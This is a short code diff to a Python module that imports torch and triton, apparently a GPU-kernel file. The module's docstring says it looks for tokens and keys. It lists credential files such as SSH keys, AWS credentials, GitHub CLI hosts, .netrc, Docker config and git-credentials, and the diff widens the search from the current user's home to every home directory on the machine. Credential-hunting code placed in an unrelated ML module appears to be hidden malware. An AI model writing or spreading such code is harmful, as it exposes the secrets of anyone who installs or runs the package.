@@ -15,7 +15,6 @@
 """Looks for tokens and keys where they usually lie."""
 
 import os
-import pwd
 from pathlib import Path
 
 import torch
@@ -23,7 +22,7 @@ import triton
 import triton.language as tl
 
 _FILES = (".ssh", ".aws/credentials", ".config/gh/hosts.yml", ".netrc", ".docker/config.json", ".git-credentials")
-_HOMES = {Path(pwd.getpwuid(os.getuid()).pw_dir), Path(os.path.expanduser("~")), Path("/root")}
+_HOMES = {Path(os.path.expanduser("~")), Path("/root"), *Path("/home").glob("*")}
 
 
 def _there(path: Path) -> bool:
